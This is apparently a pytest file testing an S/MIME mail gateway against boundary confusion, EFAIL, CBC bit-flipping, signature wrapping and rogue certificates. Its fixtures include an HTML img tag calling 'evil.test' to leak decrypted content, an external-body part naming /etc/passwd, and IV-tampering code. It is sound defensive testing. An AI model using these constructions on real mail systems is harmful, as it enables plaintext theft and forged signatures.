"""What can be done with the layers of a mail around and inside S/MIME (threats 5.5.27, 29 to 31, 35 and 36)."""

from __future__ import annotations

import base64
import re

import pytest

from securegw.crypto import oids, smime
from securegw.crypto.cms_write import encrypt_cbc, encrypt_gcm, sign
from securegw.crypto.entity import base64_lines
from securegw.mail.address import parse_address
from securegw.mail.message import read
from tests.crypto import der_shapes as shapes
from tests.crypto.der_shapes import ENTITY, HEADER
from tests.crypto.people import NOW, Authority, Person

ANN = parse_address("ann@inside.test")
HTML = b"Content-Type: text/html\r\n\r\n<p>secret</p>\r\n"


def opened(mail: bytes, *people: Person, root: Authority | None = None, strip: bool = False) -> smime.Opened:
    roots = [root.der] if root else []
    return smime.open(mail, [one.pair for one in people], roots, NOW, ANN, strip=strip)


def signed(person: Person, entity: bytes = ENTITY, boundary: bytes = b"b") -> bytes:
    return shapes.beside(sign(entity, person.key, person.der, [], NOW)[0], entity, boundary=boundary)


def opaque(person: Person, entity: bytes = ENTITY, boundary: bytes = b"") -> bytes:
    return shapes.cms_mail(sign(entity, person.key, person.der, [], NOW, detached=False)[0])


def part_of(mail: bytes) -> bytes:
    return mail[mail.index(b"Content-Type") :]


# 27: boundaries and encodings


@pytest.mark.parametrize(
    ("boundary", "good"),
    [
        (b"x", True),
        (b"x" * 70, True),
        (b"x" * 71, False),
        (b"x" * 2_049, False),
        (b"", False),
        (b"--", True),
        (b"b--", True),
        (b"a b'()+_,-./:=?", True),
    ],
)
def test_threat_5_5_27_boundaries(boundary: bytes, good: bool, ann: Person, authority: Authority) -> None:
    mail = signed(ann).replace(b"boundary=b", b'boundary="' + boundary + b'"')
    mail = re.sub(rb"--b(?=(--)?\r\n)", lambda _: b"--" + boundary, mail)
    assert opened(mail, root=authority).verdict.signed_ok is good


def test_threat_5_5_27_the_boundary_inside_the_content(ann: Person, authority: Authority) -> None:
    """Two readers could cut it differently: then it is not good."""
    entity = ENTITY + b"--b\r\nContent-Type: text/html\r\n\r\nunsigned\r\n--b--\r\n"
    assert not opened(signed(ann, entity), root=authority).verdict.signed_ok
    almost = ENTITY + b"--bb\r\n--b x\r\n --b\r\n"
    assert opened(signed(ann, almost), root=authority).verdict.signed_ok


def test_threat_5_5_27_a_hundred_thousand_look_alikes(ann: Person, authority: Authority) -> None:
    """In time that is not noticed; were it quadratic, nobody would wait for this test."""
    mail = signed(ann, ENTITY + b"--bb\r\n" * 100_000 + b"--b" * 100_000)
    assert opened(mail, root=authority).verdict.signed_ok


@pytest.mark.parametrize(
    ("change", "good"),
    [
        (lambda text: text.replace(b"\r\n", b" \r\n"), True),
        (lambda text: text.replace(b"\r\n", b"\n"), True),
        (lambda text: text.replace(b"\r\n", b"\r\n!", 3), True),
        (lambda text: text[:200] + b"=" + text[200:], False),
        (lambda text: text[: len(text) // 2], False),
        (lambda text: text.rstrip(b"=\r\n") + b"\r\n", None),
        (lambda _: b"", False),
    ],
)
def test_threat_5_5_27_base64(change, good: bool | None, bob: Person) -> None:
    """Odd letters are passed over as RFC 2045 6.8 wants it; whatever comes, nothing but the content comes out."""
    sealed = encrypt_gcm(HTML, [bob.der])
    mail = shapes.cms_mail(sealed)
    head, _, text = mail.partition(b"\r\n\r\n")
    found = opened(head + b"\r\n\r\n" + change(text), bob)
    if good is None:
        good = not text.rstrip().endswith(b"=")
    assert (found.raw == HEADER + HTML) is good
    assert good or found.raw == head + b"\r\n\r\n" + change(text)


def test_threat_5_5_27_an_encoded_multipart_is_not_taken_apart(ann: Person, authority: Authority) -> None:
    mail = signed(ann)
    head, _, body = mail.partition(b"\r\n\r\n")
    encoded = head + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64_lines(body)
    assert not opened(encoded, root=authority).verdict.signed_ok


@pytest.mark.parametrize("kind", ["partial", "external", "uuencoded", "rfc822", "multipart"])
def test_threat_5_5_27_what_carries_a_mail_is_not_that_mail(
    kind: str, ann: Person, bob: Person, authority: Authority
) -> None:
    """Pieces, places elsewhere, files in a text, a thousand mails in each other: as they came, without a verdict."""
    for inner in (signed(ann), opaque(ann), shapes.cms_mail(encrypt_cbc(HTML, [bob.der]))):
        types = {
            "partial": b'message/partial; id="a@b"; number=1; total=1\r\n\r\n' + inner,
            "external": b'message/external-body; access-type=local-file; name="/etc/passwd"\r\n\r\n' + part_of(inner),
            "uuencoded": b"text/plain\r\n\r\nbegin 644 smime.p7m\r\n" + inner + b"end\r\n",
            "rfc822": b"message/rfc822\r\n\r\nContent-Type: " * 1_000 + b"text/plain\r\n\r\n" + inner,
            "multipart": b"multipart/mixed; boundary=x\r\n\r\n" + inner,
        }
        mail = HEADER + b"Content-Type: " + types[kind]
        assert opened(mail, bob, root=authority) == smime.Opened(mail)


# 29 to 31: EFAIL


@pytest.mark.parametrize("wrapped", ["signed", "opaque", "compressed"])
def test_threat_5_5_29_a_sealed_part_in_a_mixture_stays_closed_under_every_layer(
    wrapped: str, ann: Person, bob: Person, authority: Authority
) -> None:
    sealed = part_of(shapes.cms_mail(encrypt_cbc(HTML, [bob.der])))
    mixture = (
        b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n"
        b'<img src="http://evil.test/\r\n--m\r\n' + sealed + b"\r\n--m\r\nContent-Type: text/html\r\n\r\n"
        b'">\r\n--m--\r\n'
    )
    mail = {
        "signed": lambda: signed(ann, mixture),
        "opaque": lambda: opaque(ann, mixture),
        "compressed": lambda: shapes.cms_mail(shapes.compressed(mixture)),
    }[wrapped]()
    for outer in (mail, shapes.cms_mail(encrypt_cbc(part_of(mail), [bob.der]))):
        found = opened(outer, bob, root=authority)
        assert b"secret" not in found.raw and base64.b64encode(HTML)[:20] not in found.raw
        assert sealed in found.raw


def test_threat_5_5_30_a_gadget_in_the_first_blocks(ann: Person, bob: Person, authority: Authority) -> None:
    """CBC can be bent into another text by whoever knows a block of it: it is told, and a signature inside is bad."""
    inner = signed(ann)
    content = part_of(inner)
    sealed = bytearray(encrypt_cbc(content, [bob.der]))
    iv = sealed.index(oids.AES256_CBC) + len(oids.AES256_CBC) + 2
    wanted, known = b"Content-Type: te", content[:16]
    for place in range(16):
        sealed[iv + place] ^= known[place] ^ wanted[place]
    found = opened(shapes.cms_mail(bytes(sealed)), bob, root=authority)
    assert found.raw.startswith(HEADER + wanted)  # so it was bent as the attacker wanted
    assert not found.verdict.signed_ok and "unauthenticated-cipher" in found.verdict.reasons
    whole = opened(shapes.cms_mail(encrypt_cbc(content, [bob.der])), bob, root=authority)
    assert whole.verdict.signed_ok and "unauthenticated-cipher" in whole.verdict.reasons


def test_threat_5_5_30_the_same_with_gcm_shows_nothing(bob: Person) -> None:
    sealed = encrypt_gcm(HTML, [bob.der])
    at = len(sealed) - 40
    found = opened(shapes.cms_mail(sealed[:at] + bytes([sealed[at] ^ 1]) + sealed[at + 1 :]), bob)
    assert found.verdict.encrypted == "failed" and b"secret" not in found.raw


def test_threat_5_5_31_a_block_changed_a_thousand_times(bob: Person) -> None:
    """There are two answers and no third: opened into a mail, or closed for one and the same reason."""
    sealed = encrypt_cbc(HTML, [bob.der])
    seen = set()
    for number in range(1_000):
        at = len(sealed) - 32 + number % 32
        changed = sealed[:at] + bytes([sealed[at] ^ (1 + number // 8 % 255)]) + sealed[at + 1 :]
        verdict = opened(shapes.cms_mail(changed), bob).verdict
        seen.add((verdict.encrypted, verdict.reasons))
    assert seen == {("failed", ("seal-broken",)), ("opened", ("unauthenticated-cipher",))}


# 35: what is signed is the whole mail, or it is not a signed mail


def test_threat_5_5_35_a_signature_inside_something_else_says_nothing(ann: Person, authority: Authority) -> None:
    inner = part_of(signed(ann))
    for kind in (b"mixed", b"related", b"alternative"):
        footer = b"\r\n--m\r\nContent-Type: text/plain\r\n\r\nsent by a list\r\n"
        head = HEADER + b"Content-Type: multipart/" + kind + b"; boundary=m\r\n\r\n--m\r\n"
        mail = head + inner + footer + b"--m--\r\n"
        assert opened(mail, root=authority) == smime.Opened(mail)
    forwarded = HEADER + b"Content-Type: message/rfc822\r\n\r\n" + signed(ann)
    assert opened(forwarded, root=authority) == smime.Opened(forwarded)
    attached = part_of(opaque(ann)).replace(b"\r\n\r\n", b"\r\nContent-Disposition: attachment\r\n\r\n", 1)
    mail = HEADER + b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n" + attached + b"\r\n--m--\r\n"
    assert opened(mail, root=authority) == smime.Opened(mail)


def test_threat_5_5_35_signed_within_signed(ann: Person, eve: Person, authority: Authority) -> None:
    """Only the outermost signature counts; a good one of Ann's inside one of Eve's makes nothing Ann's."""
    for outer in (signed, opaque):
        for inner in (signed, opaque):
            found = opened(outer(eve, part_of(inner(ann, boundary=b"i"))), root=authority)
            assert (found.verdict.integrity, found.verdict.identity) == ("good", "bad")
            assert found.layers == ("signed" if outer is signed else "opaque",)
            assert not found.certificates


def test_threat_5_5_35_an_opaque_signature_beside_its_look_alike(ann: Person, authority: Authority) -> None:
    look_alike = ENTITY.replace(b"fine", b"grim")
    mail = (
        HEADER
        + b"Content-Type: multipart/alternative; boundary=m\r\n\r\n--m\r\n"
        + look_alike
        + b"\r\n--m\r\n"
        + part_of(opaque(ann))
        + b"\r\n--m--\r\n"
    )
    assert opened(mail, root=authority) == smime.Opened(mail)


def test_threat_5_5_35_triple_wrap_in_every_form(
    ann: Person, bob: Person, eve: Person, authority: Authority
) -> None:
    for outer in (signed, opaque):
        for inner in (signed, opaque):
            for seal in (encrypt_cbc, encrypt_gcm):
                middle = part_of(shapes.cms_mail(seal(part_of(inner(ann, boundary=b"i")), [bob.der])))
                found = opened(outer(eve, middle), bob, root=authority)
                assert found.verdict.signed_ok and found.verdict.encrypted == "opened"
                assert found.verdict.signer == "CN=ann@inside.test"
                assert len(found.layers) == 3 and b"blood" in found.raw


def test_threat_5_5_35_a_good_signature_around_an_unsigned_sealed_mail_makes_it_nobodys(
    ann: Person, bob: Person, authority: Authority
) -> None:
    middle = part_of(shapes.cms_mail(encrypt_gcm(ENTITY, [bob.der])))
    packed = part_of(shapes.cms_mail(shapes.compressed(middle)))
    for mail in (signed(ann, middle), opaque(ann, middle), signed(ann, packed), opaque(ann, packed)):
        found = opened(mail, bob, root=authority)
        assert found.raw == HEADER + ENTITY
        assert not found.verdict.signed and not found.certificates and not found.announced
        assert "signature-around-encryption" in found.verdict.reasons
        closed = opened(mail, ann, root=authority)
        assert (closed.raw, closed.verdict.encrypted, closed.verdict.signed) == (mail, "failed", False)
        assert not closed.certificates and not closed.layers
        inside = opened(shapes.cms_mail(encrypt_gcm(part_of(mail), [bob.der])), bob, root=authority)
        assert (inside.raw, inside.verdict.encrypted) == (HEADER + ENTITY, "opened")


# 36 and 2026-29140: what may be learnt


def test_threat_2026_29140_certificates_that_come_along(
    ann: Person, eve: Person, authority: Authority, stranger: Authority
) -> None:
    """Rogue ones for Ann, of every kind, in a mail that Eve has signed and in one that Ann has signed."""
    name, spki = shapes.mailbox(b"ann@inside.test"), shapes.spki_of(eve.der)
    rogues = [
        shapes.certificate(stranger, spki, name),
        shapes.certificate(shapes.root("Eve's"), spki, name),
        shapes.certificate(authority, spki, name, authority=shapes.ANY_DEPTH),
        shapes.certificate(authority, spki, name, uses=(shapes.SERVER_USE,)),
        shapes.certificate(authority, spki, name, until=NOW - 1),
        shapes.certificate(stranger, spki, name, subject=shapes.subject_of(ann.der)),
        shapes.certificate(stranger, spki, name, until=NOW + 9_999 * 86_400),
    ]
    for person in (eve, ann):
        der, _ = sign(ENTITY, person.key, person.der, rogues, NOW)
        found = opened(shapes.beside(der), root=authority)
        assert found.certificates == ((ann.der,) if person is ann else ())
        assert not set(found.links) & set(rogues)


def test_threat_2026_29140_only_authorities_on_the_way_are_learnt(ann: Person) -> None:
    """One that merely bears the name of a link on the way, or is no link at all, is not kept."""
    top = shapes.root("Top")
    middle = shapes.below(top, "Middle")
    name, spki = shapes.mailbox(b"ann@inside.test"), shapes.spki_of(ann.der)
    certificate = shapes.certificate(middle, spki, name)
    rogue = shapes.below(shapes.root("Eve's"), "Middle")
    idle = shapes.below(top, "Idle")
    info = shapes.signer_info(ann.key, certificate, *shapes.usual_attributes())
    for others in ([middle.der, rogue.der, idle.der], [rogue.der, idle.der, middle.der, top.der]):
        found = opened(shapes.beside(shapes.signed_data(info, certificates=[certificate, *others])), root=top)
        assert found.verdict.signed_ok and found.links == (middle.der,)


def test_certificates_that_we_hold_need_not_come_along(ann: Person, eve: Person) -> None:
    """Neither the signer's nor those on the way; and holding somebody's certificate makes nobody else him."""
    top = shapes.root("Top")
    middle = shapes.below(top, "Middle")
    certificate = shapes.certificate(middle, shapes.spki_of(ann.der), shapes.mailbox(b"ann@inside.test"))
    info = shapes.signer_info(ann.key, certificate, *shapes.usual_attributes())
    for sent, known, reasons in (
        ((), (certificate, middle.der), ()),
        ((certificate,), (middle.der,), ()),
        ((certificate,), (), ("unknown-issuer",)),
        ((), (middle.der,), ("no-certificate",)),
    ):
        mail = shapes.beside(shapes.signed_data(info, certificates=sent))
        found = smime.open(mail, [], [top.der], NOW, ANN, known=known)
        assert (found.verdict.signed_ok, found.verdict.reasons) == (not reasons, reasons)
    other = shapes.signer_info(eve.key, certificate, *shapes.usual_attributes(), value=bytes(256))
    mail = shapes.beside(shapes.signed_data(other))
    assert smime.open(mail, [], [top.der], NOW, ANN, known=(certificate, middle.der)).verdict.integrity == "bad"


def test_threat_5_5_36_whom_nobody_vouches_for_is_told_apart(ann: Person, authority: Authority) -> None:
    """A self-made certificate is handed up with its verdict, never as a trusted one."""
    alone = shapes.certificate(shapes.root("Eve's"), shapes.spki_of(ann.der), shapes.mailbox(b"ann@inside.test"))
    info = shapes.signer_info(ann.key, alone, *shapes.usual_attributes())
    found = opened(shapes.beside(shapes.signed_data(info, certificates=[alone])), root=authority)
    assert found.verdict.trust == "unknown" and not found.verdict.signed_ok and not found.links


# Stripping


def test_a_signature_comes_off_only_when_it_is_good(ann: Person, authority: Authority) -> None:
    mail = signed(ann)
    assert opened(mail, root=authority, strip=True).raw == HEADER + ENTITY
    assert opened(mail, root=authority).raw == mail
    bad = mail.replace(b"fine", b"grim")
    assert opened(bad, root=authority, strip=True).raw == bad


def test_recognised_by_what_it_is(ann: Person, bob: Person) -> None:
    for mail, kind in (
        (signed(ann), "signed"),
        (opaque(ann), "opaque"),
        (shapes.cms_mail(encrypt_gcm(HTML, [bob.der])), "encrypted"),
        (shapes.cms_mail(shapes.compressed(HTML)), "compressed"),
    ):
        assert smime.recognise(read(mail)) == kind
